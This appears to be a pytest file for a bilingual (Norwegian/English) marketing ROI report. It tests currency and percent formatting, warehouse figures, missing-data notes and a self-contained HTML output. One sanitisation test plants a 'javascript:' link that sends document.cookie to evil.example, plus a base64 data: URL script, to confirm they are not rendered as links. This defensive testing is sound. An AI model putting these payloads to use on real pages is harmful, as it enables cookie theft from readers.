"""The report for management: the warehouse's own figures, in Norwegian or English, in one HTML file
that needs nothing from the network.

Reports are built from the session's settled sync (read-only); expected strings are formatted
with Babel straight from the ROI tables' values.
"""

import copy
import datetime as dt
import html
import re

import duckdb
import pytest
from babel import Locale
from babel.dates import format_interval
from babel.numbers import format_currency, format_decimal, get_minus_sign_symbol

from conftest import copy_of_settled
from pipelines.report import build_report, month_period, previous_period, write_report
from pipelines.report.figures import read_figures
from pipelines.report.formatting import Formatter
from pipelines.report.labels import LABELS, channel_name
from warehouse_sql import query

# Depends on the calendar day: `make calendar` runs it on 40+ days (tests/calendar_days.py).
pytestmark = pytest.mark.calendar

LOCALES = ("nb", "en")
# What the report calls K2's status (`not_met` in marts.kpi_progress) in each language.
NOT_MET = {"nb": "ikke nådd", "en": "not met"}


def days(first, last):
    return [first + dt.timedelta(days=n) for n in range((last - first).days + 1)]


def percent(value, locale):
    """A ratio as the report prints it: the locale's percent pattern with one decimal, and the
    locale's own minus sign (CLDR's minusSign: − in Norwegian)."""
    pattern = copy.copy(Locale.parse(locale).percent_formats[None])
    pattern.frac_prec = (1, 1)
    text = pattern.apply(value, Locale.parse(locale))
    return get_minus_sign_symbol(locale) + text[1:] if text.startswith("-") else text


def test_a_fall_is_written_with_the_readers_minus_sign_and_a_figure_that_rounds_to_zero_with_none():
    norwegian, english = Formatter("nb", "NOK"), Formatter("en", "NOK")

    assert norwegian.percent(-0.539) == "\N{MINUS SIGN}53,9\N{NO-BREAK SPACE}%"
    assert norwegian.money(-1234.5) == "\N{MINUS SIGN}1\N{NO-BREAK SPACE}234,50\N{NO-BREAK SPACE}kr"
    assert norwegian.ratio(-0.47) == "\N{MINUS SIGN}0,47"
    assert norwegian.change_points(0.1, 0.2).startswith("\N{MINUS SIGN}10,0")
    assert norwegian.percent(-0.0004) == "0,0\N{NO-BREAK SPACE}%", "not -0,0 %"
    assert english.money(-5) == "-NOK5.00", "English writes a hyphen-minus"


@pytest.fixture(scope="module")
def window_reports(window_report):
    """The report for the settled sync's days, in each language."""
    return {locale: window_report(locale) for locale in LOCALES}


@pytest.mark.parametrize("locale", LOCALES)
def test_the_report_states_the_roi_tables_figures_in_the_readers_language(settled, window_reports, locale):
    report = window_reports[locale]
    # the settled window is every day loaded, so the headline is roi_social_totals' "all social"
    [(total_cost, roi)] = query(
        settled.warehouse, "select total_cost, roi from marts.roi_social_totals where scope = 'all social'"
    )
    channels = query(
        settled.warehouse,
        "select channel, media_type, roi from marts.roi_by_channel_between(?, ?) "
        "where channel in ('meta', 'linkedin') and roi is not null",
        *settled.window,
    )
    [(top_campaign,)] = query(
        settled.warehouse,
        "select campaign_name from marts.roi_by_campaign_between(?, ?) order by return_value desc limit 1",
        *settled.window,
    )

    assert format_currency(total_cost, "NOK", locale=locale) in report.html
    assert percent(roi, locale) in report.html
    assert len(channels) == 2
    for _, _, channel_roi in channels:
        assert percent(channel_roi, locale) in report.html
    assert html.escape(top_campaign) in report.html
    [k2_row] = [row for row in report.html.split("<tr>") if re.search(r"<td>K2\b", row)]
    assert NOT_MET[locale] in k2_row


def test_the_same_amount_is_written_the_norwegian_and_the_english_way(window_reports):
    amount = window_reports["nb"].headline["total_cost"]
    norwegian, english = format_currency(amount, "NOK", locale="nb"), format_currency(amount, "NOK", locale="en")

    assert "\N{NO-BREAK SPACE}" in norwegian and "," in norwegian and norwegian.endswith("kr")
    assert norwegian in window_reports["nb"].html and norwegian not in window_reports["en"].html
    assert english in window_reports["en"].html and english not in window_reports["nb"].html


# The headline's cards, in order, as each language labels them.
HEADLINE_LABELS = {
    "nb": (
        "Totalkostnad",
        "Observert inntekt (GA4)",
        "Verdsatte konverteringer",
        "Inntekt og avtalt verdi",
        "ROI på inntekt",
        "ROI med avtalt verdi",
        "ROAS, betalt",
    ),
    "en": (
        "Total cost",
        "Observed revenue (GA4)",
        "Valued conversions",
        "Revenue and agreed value",
        "ROI on revenue",
        "ROI with agreed value",
        "ROAS, paid",
    ),
}
TOTALS_COLUMNS = ("total_cost", "revenue", "valued_conversions_value", "return_value", "roi_on_revenue", "roi", "roas")


def social_totals(warehouse) -> dict[str, dict]:
    """marts.roi_social_totals by scope ('all social', 'all paid social'), each row as a dict."""
    rows = query(warehouse, f"select scope, {', '.join(TOTALS_COLUMNS)} from marts.roi_social_totals")
    return {scope: dict(zip(TOTALS_COLUMNS, values)) for scope, *values in rows}


def test_the_headline_figures_are_plain_numbers_for_the_run_metadata(settled, window_reports):
    totals = social_totals(settled.warehouse)
    social, paid = totals["all social"], totals["all paid social"]
    headline = window_reports["en"].headline

    for column in TOTALS_COLUMNS[:-1]:
        assert headline[column] == pytest.approx(float(social[column])), column
    assert headline["paid_roas"] == pytest.approx(paid["roas"])
    assert headline["organic_revenue"] == pytest.approx(float(social["revenue"] - paid["revenue"]))
    # nothing was loaded before the window: there is nothing to compare with
    assert headline["previous_total_cost"] == 0 and headline["previous_roi"] is None


@pytest.mark.parametrize("locale", LOCALES)
def test_the_headline_shows_observed_revenue_and_agreed_value_apart_with_an_roi_on_each(
    settled, window_reports, locale
):
    """Agreed conversion values are not revenue: a reader sees what GA4 observed, what the values
    file adds, ROI on each basis, and a ROAS of the paid traffic alone."""
    totals = social_totals(settled.warehouse)
    social, paid = totals["all social"], totals["all paid social"]
    report = window_reports[locale]
    cards = dict(
        re.findall(r'<div class="label">(.*?)</div>\s*<div class="value">(.*?)</div>', report.html, flags=re.S)
    )

    def money(amount):
        return html.escape(format_currency(amount, "NOK", locale=locale))

    assert social["valued_conversions_value"] > 0, "the settled sync values leads and registrations"
    assert social["roi_on_revenue"] < social["roi"]
    assert [cards[label] for label in HEADLINE_LABELS[locale]] == [
        money(social["total_cost"]),
        money(social["revenue"]),
        money(social["valued_conversions_value"]),
        money(social["return_value"]),
        percent(social["roi_on_revenue"], locale),
        percent(social["roi"], locale),
        format_decimal(paid["roas"], format="#,##0.00", locale=locale),
    ]
    assert paid["roas"] != social["roas"] and social["revenue"] > paid["revenue"], "organic traffic brought revenue too"
    assert money(social["revenue"] - paid["revenue"]) in report.html, "the organic revenue left out of ROAS is named"


def test_a_period_without_data_says_so(settled):
    long_before = settled.window[0] - dt.timedelta(days=400)
    start, end = month_period(f"{long_before:%Y-%m}")

    report = build_report(settled.warehouse, start, end, locale="en")

    assert report.is_empty
    assert report.missing_days == days(start, end)
    assert "The warehouse has no data for this period." in report.html


def test_a_partly_loaded_period_names_the_days_missing(settled):
    first, last = settled.window
    start = first - dt.timedelta(days=3)

    report = build_report(settled.warehouse, start, last, locale="en")

    assert not report.is_empty
    assert report.missing_days == days(start, first - dt.timedelta(days=1))
    assert format_interval(start, first - dt.timedelta(days=1), skeleton="yMMMd", locale="en") in report.html


def test_a_change_against_a_partly_loaded_period_is_not_printed(settled):
    first, _last = settled.window
    start, end = first + dt.timedelta(days=2), first + dt.timedelta(days=5)  # the 4 days before: 2 loaded

    partial = build_report(settled.warehouse, start, end, locale="en")
    whole = build_report(settled.warehouse, start + dt.timedelta(days=4), end + dt.timedelta(days=4), locale="en")

    cards = partial.html.count('<div class="card">')
    assert cards == 7 and partial.html.count("not comparable") == cards, "no change on any headline card"
    assert "not comparable" not in whole.html


def test_the_headline_counts_only_the_ad_channels_whatever_the_channel_mapping_says(settled, work_directory):
    copy = copy_of_settled(settled, work_directory)
    first, last = settled.window
    before = build_report(copy, first, last, locale="en").headline

    with duckdb.connect(str(copy)) as connection:  # a search channel marked paid in the channel_mapping seed
        connection.execute("update marts.cost_daily set channel = 'google_ads' where channel = 'other'")
        connection.execute(
            "update marts.conversions_daily set channel = 'google_ads', media_type = 'paid' where channel = 'direct'"
        )

    after = build_report(copy, first, last, locale="en").headline

    assert after["roi"] == before["roi"] and after["return_value"] == before["return_value"]


def test_a_calendar_month_is_compared_with_the_month_before(settled):
    start, end = month_period(f"{settled.window[1]:%Y-%m}")

    report = build_report(settled.warehouse, start, end, locale="nb")

    assert report.previous_period == (
        (start - dt.timedelta(days=1)).replace(day=1),
        start - dt.timedelta(days=1),
    )
    loaded = days(*settled.window)
    assert report.missing_days == [day for day in days(start, end) if day not in loaded]


def test_periods_are_months_or_the_same_number_of_days_before():
    assert month_period("2026-10") == (dt.date(2026, 10, 1), dt.date(2026, 10, 31))
    assert previous_period(*month_period("2026-03")) == (dt.date(2026, 2, 1), dt.date(2026, 2, 28))
    assert previous_period(dt.date(2026, 10, 10), dt.date(2026, 10, 16)) == (dt.date(2026, 10, 3), dt.date(2026, 10, 9))
    with pytest.raises(ValueError, match="YYYY-MM"):
        month_period("2026-13")


def test_the_daily_series_add_up_to_each_channels_paid_row(settled):
    figures = read_figures(settled.warehouse, *settled.window)

    for row in (row for row in figures.channels if row["media_type"] == "paid"):
        daily = [day for day in figures.daily if day["channel"] == row["channel"]]
        assert sum(day["spend"] for day in daily) == row["spend"]
        assert sum(day["total_cost"] for day in daily) == row["total_cost"]
        assert sum(day["return_value"] for day in daily) == row["return_value"]


def test_the_html_file_is_self_contained_small_and_printable(window_reports, tmp_path):
    written = write_report(window_reports["nb"], tmp_path / "report.html")
    text = written.read_text(encoding="utf-8")

    assert text == window_reports["nb"].html
    # nothing is loaded from elsewhere (a link to a post, <a href>, loads nothing until clicked)
    assert not re.search(r"""src\s*=\s*["']?\s*(https?:)?//|url\(\s*["']?\s*(https?:)?//""", text, re.I)
    assert "<script" not in text and "<link" not in text and "@import" not in text
    assert written.stat().st_size < 3 * 1024 * 1024
    assert "@page" in text and "A4" in text and "break-before: page" in text
    assert text.count("<svg") >= 5  # ROI, ROAS, CPC, CPM and a day-by-day chart per channel


@pytest.mark.parametrize("locale", LOCALES)
def test_the_report_shows_each_networks_follower_growth_and_the_posts_that_engaged_most(
    settled, window_reports, locale
):
    first, last = settled.window
    followers = dict(
        query(
            settled.warehouse,
            "select network || '/' || date_day, sum(followers) from marts.audience_daily"
            " where date_day in (?, ?) group by all",
            first - dt.timedelta(days=1),
            last,
        )
    )
    [(top_permalink,)] = query(
        settled.warehouse,
        "select permalink from marts.posts where published_date between ? and ? order by engagements desc limit 1",
        first,
        last,
    )

    audience = html.unescape(re.search(r'<section id="audience">.*?</section>', window_reports[locale].html, re.S)[0])
    for network in ("facebook", "instagram"):
        start, end = followers[f"{network}/{first - dt.timedelta(days=1)}"], followers[f"{network}/{last}"]
        row = re.search(rf"<tr><td>{network.capitalize()}</td>(.*?)</tr>", audience, re.S)[1]
        assert percent((end - start) / start, locale) in row, network
    assert f'href="{top_permalink}"' in audience


def test_key_event_days_ga4_thresholded_are_named_in_the_data_notes(settled, work_directory):
    copy = copy_of_settled(settled, work_directory)
    first, last = settled.window
    property_id = query(copy, "select min(property_id) from marts.ga4_traffic_by_campaign")[0][0]
    with duckdb.connect(str(copy)) as connection:  # GA4 thresholded the key events by event name on one day
        connection.execute(
            "insert into marts.ga4_flagged_days values (?, ?, 'key_events', true, false, 0)", [last, property_id]
        )

    report = build_report(copy, first, last, locale="en")

    assert "in the key events by event name" in report.html
    assert "GA4 reported no thresholding" not in report.html


def test_only_web_addresses_become_links_a_script_or_data_permalink_is_shown_as_text(settled, work_directory):
    copy = copy_of_settled(settled, work_directory)
    first, last = settled.window
    top = "select post_id, post_text from marts.posts where published_date between ? and ? order by engagements desc limit 3"
    (scripted, scripted_text), (embedded, _), (kept, _) = query(copy, top, first, last)
    with duckdb.connect(str(copy)) as connection:  # as a post's link could come back from a platform or a hand edit
        set_link = "update marts.posts set permalink = ? where post_id = ?"
        connection.execute(set_link, [" JavaScript:fetch('//evil.example/'+document.cookie)", scripted])
        connection.execute(set_link, ["data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", embedded])
        connection.execute(set_link, ["HTTPS://www.facebook.com/123_456", kept])

    posts = re.search(r'<table id="top-posts">.*?</table>', build_report(copy, first, last, "en").html, re.S)[0]

    links = re.findall(r'href="([^"]*)"', posts)
    assert links and all(re.match(r"https?://", link, re.I) for link in links), links
    assert "HTTPS://www.facebook.com/123_456" in links
    assert "javascript" not in posts.lower() and "data:" not in posts
    assert f"<tr><td>{html.escape(scripted_text[:40])}" in posts, "the post is still listed, as text"


def claims_table(report_html):
    """The claims table as the reader sees it: its column headings, and each row's cells as text."""
    table = re.search(r'<table id="claims-table">(.*?)</table>', report_html, re.S)[1]
    head, body = table.split("</thead>")
    headings = [html.unescape(cell) for cell in re.findall(r"<th[^>]*>(.*?)</th>", head, re.S)]
    rows = [
        [html.unescape(cell).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.S)
    ]
    return headings, rows


def english_count(text):
    return 0 if text == LABELS["en"]["none"] else float(text.replace(",", ""))


def test_the_claims_table_rows_add_up_to_all_conversions(settled, window_reports):
    words = LABELS["en"]
    headings, rows = claims_table(window_reports["en"].html)
    columns = [headings.index(words[key]) for key in ("claimed_on_website", "observed", "claimed_on_platform")]
    [(form_leads,)] = query(
        settled.warehouse,
        "select sum(one_click_leads) from raw.linkedin_ads_analytics where date between ? and ?",
        *settled.window,
    )

    for channel in ("Meta", "LinkedIn"):
        goals = [row[1] for row in rows if row[0] == channel]
        [total] = [row for row in rows if row[0] == channel and row[1] == words["all_goals"]]
        parts = [row for row in rows if row[0] == channel][: goals.index(words["all_goals"])]
        for column in columns:
            assert sum(english_count(row[column]) for row in parts) == english_count(total[column]), (
                f"{channel}: {headings[column]}"
            )
        if channel == "LinkedIn":
            assert english_count(total[columns[2]]) == form_leads > 0, "Lead Gen Form leads: only on LinkedIn"
            [leads] = [row for row in parts if row[1] == "leads"]
            assert english_count(leads[columns[2]]) > 0 and english_count(leads[columns[0]]) > 0


@pytest.mark.parametrize("locale", LOCALES)
def test_the_report_sets_each_channels_claimed_value_beside_ga4_revenue(settled, window_reports, locale):
    words = LABELS[locale]
    paid = query(
        settled.warehouse,
        "select channel, platform_conversion_value, platform_only_conversion_value, ga4_revenue "
        "from marts.roi_by_channel_between(?, ?) where media_type = 'paid' and channel in ('meta', 'linkedin')",
        *settled.window,
    )
    headings, rows = claims_table(window_reports[locale].html)
    website, observed, on_platform = (
        headings.index(words[key]) for key in ("claimed_on_website", "observed", "claimed_on_platform")
    )

    assert len(paid) == 2
    for channel, claimed, claimed_on_platform, revenue in paid:
        [row] = [row for row in rows if row[0] == channel_name(channel) and row[1] == words["claims_value"]]
        assert claimed > 0 and revenue > 0
        assert row[website] == format_currency(claimed - claimed_on_platform, "NOK", locale=locale)
        assert row[observed] == format_currency(revenue, "NOK", locale=locale)
        assert row[on_platform] == format_currency(claimed_on_platform, "NOK", locale=locale)
